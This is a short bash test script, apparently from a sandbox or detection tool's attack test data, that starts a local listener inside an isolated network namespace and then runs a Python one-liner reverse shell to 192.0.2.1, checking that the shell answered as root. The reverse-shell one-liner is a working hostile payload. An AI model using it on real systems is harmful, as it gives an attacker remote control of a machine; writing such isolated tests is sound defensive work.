#!/usr/bin/env bash
# A Python one-liner connects to another address and hands the connection to a shell, in a network namespace of its own.
# shellcheck source=testdata/attack/common.sh
. "$(dirname "$0")/../common.sh"
own_mounts_and_network

python3 "$here/server.py" "$work/port" "$work/answers" 1 &
operator=$!
wait_for "$work/port"
python3 -c 'import socket,os,subprocess;s=socket.create_connection(("192.0.2.1",'"$(<"$work/port")"'));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["sh","-i"])' 2>/dev/null
wait "$operator"
grep -q 'uid=0' "$work/answers" || fail "the shell did not answer"
